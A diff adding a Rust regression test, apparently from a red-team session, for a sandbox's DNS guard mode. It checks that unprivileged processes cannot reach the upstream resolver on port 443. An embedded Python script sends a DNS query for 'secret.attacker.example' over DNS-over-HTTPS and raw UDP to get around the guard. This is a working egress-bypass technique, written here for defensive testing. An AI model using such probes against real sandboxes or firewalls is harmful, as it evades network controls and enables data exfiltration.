@@ -1,0 +1,123 @@
+//! The gap between what a policy says and what the fence lets through (red-team session 12,
+//! rt-policy): a careful reader of the policy and the README expects no more than the
+//! enforced table allows.
+
+use std::net::IpAddr;
+use std::time::Duration;
+
+use crate::common::*;
+
+/// As nobody in the sandbox: asks `secret.attacker.example` (a name the policy does not
+/// allow) at each address of argv[1..] on port 443 the ways a resolver serves there: DNS over
+/// HTTPS (RFC 8484's GET form, over TCP; TLS would change nothing the fence sees) and a DNS
+/// message in a UDP datagram (HTTP/3 is UDP 443). One line per try: what the socket said.
+const ASK_AROUND_THE_GUARD: &str = r#"
+import base64, socket, struct, sys
+def labels(name):
+    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+query = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + labels("secret.attacker.example") + struct.pack(">HH", 1, 1)
+doh = base64.urlsafe_b64encode(query).rstrip(b"=").decode()
+for host in sys.argv[1:]:
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    try:
+        s = socket.socket(family, socket.SOCK_STREAM)
+        s.settimeout(2)
+        s.connect((host, 443))
+        s.sendall(f"GET /dns-query?dns={doh} HTTP/1.1\r\nHost: resolver\r\nAccept: application/dns-message\r\n\r\n".encode())
+        s.recv(100)
+        print(f"tcp {host} sent", flush=True)
+    except OSError as e:
+        print(f"tcp {host} {e}", flush=True)
+    try:
+        u = socket.socket(family, socket.SOCK_DGRAM)
+        u.sendto(query, (host, 443))
+        print(f"udp {host} sent", flush=True)
+    except OSError as e:
+        print(f"udp {host} {e}", flush=True)
+"#;
+
+/// Guard mode promises that only the guard's own sockets reach the upstream resolvers ("DNS
+/// carries nothing out in guard mode"; `upstream: ... # nobody else may ask them`), but the
+/// table held that only for DNS and DNS over TLS (53 and 853): an allow entry that covers the
+/// upstream's address on another port let any process ask it there around the guard. A
+/// policy that allows the internal network's HTTPS (`cidr: 192.0.2.0/24, ports: [443]`) with
+/// the internal resolver in it as the upstream is the common case, and resolvers serve DNS
+/// over HTTPS on 443 (AdGuard Home, Technitium, unbound, Windows Server, Route 53 Resolver
+/// endpoints): nobody in the sandbox asked the upstream for `secret.attacker.example` over
+/// 443, TCP and UDP, IPv4 and IPv6, while the guard refused the same name. Now the upstream
+/// addresses are refused to every socket but the guard's, on every port, as the deny list
+/// refuses (the guard's DNS comes before the deny list, as a resolver in a denied network's
+/// does); the rest of the allowed network stays reachable.
+#[test]
+fn only_the_guard_reaches_its_upstream_on_any_port() {
+    let w = World::new();
+    let policy = format!(
+        "version: 1\nallow:\n  - cidr: 192.0.2.0/24\n    ports: [443]\n    protocol: any\n\
+         \x20 - cidr: 2001:db8:1::/64\n    ports: [443]\n    protocol: any\n\
+         dns:\n  mode: guard\n  upstream: [{DNS_V4}, {DNS_V6}]\n"
+    );
+    let path = w.write_file("guard.yaml", &policy);
+    let mut daemon = w.spawn_guard(path.to_str().expect("utf-8"));
+    w.use_guard_resolver();
+
+    // The guard refuses the name, and DNS straight to the upstream is refused.
+    let refused = w.dig_as(Some(NOBODY), None, "secret.attacker.example", "A", &[]);
+    assert_eq!(
+        refused.status.as_deref(),
+        Some("REFUSED"),
+        "the guard refuses the name: {refused:?}"
+    );
+    let direct = w.dig_as(
+        Some(NOBODY),
+        Some(DNS_V4),
+        "secret.attacker.example",
+        "A",
+        &[],
+    );
+    assert!(
+        !direct.answered(),
+        "DNS straight to the upstream: {direct:?}"
+    );
+
+    // The allowed network's other hosts stay reachable on 443.
+    let _api = w.listen_tcp(HOST_V4, 443);
+    assert!(
+        w.adversary_cmd(
+            Adversary::Nobody,
+            &["nc", "-z", "-w", "2", &HOST_V4.to_string(), "443"]
+        )
+        .success(),
+        "the allowed network's HTTPS is reachable"
+    );
+
+    let upstreams: [IpAddr; 2] = [DNS_V4, DNS_V6];
+    let listeners: Vec<Listener> = upstreams
+        .iter()
+        .flat_map(|&ip| [w.listen_tcp(ip, 443), w.listen_udp(ip, 443)])
+        .collect();
+    let hosts: Vec<String> = upstreams.iter().map(|a| a.to_string()).collect();
+    let mut args = vec![PYTHON, "-c", ASK_AROUND_THE_GUARD];
+    args.extend(hosts.iter().map(String::as_str));
+    let out = w.adversary_cmd(Adversary::Nobody, &args);
+    eprintln!("{out}");
+    std::thread::sleep(Duration::from_millis(300));
+    let reached: Vec<String> = listeners
+        .iter()
+        .flat_map(|l| l.hits())
+        .map(|h| {
+            format!(
+                "{} -> {}: {:?}",
+                h.peer,
+                h.local,
+                String::from_utf8_lossy(&h.data)
+            )
+        })
+        .collect();
+    assert!(
+        reached.is_empty(),
+        "a process other than the guard reached the upstream resolver, asking it a name the \
+         guard refuses:\n{}",
+        reached.join("\n")
+    );
+    daemon.terminate();
+}
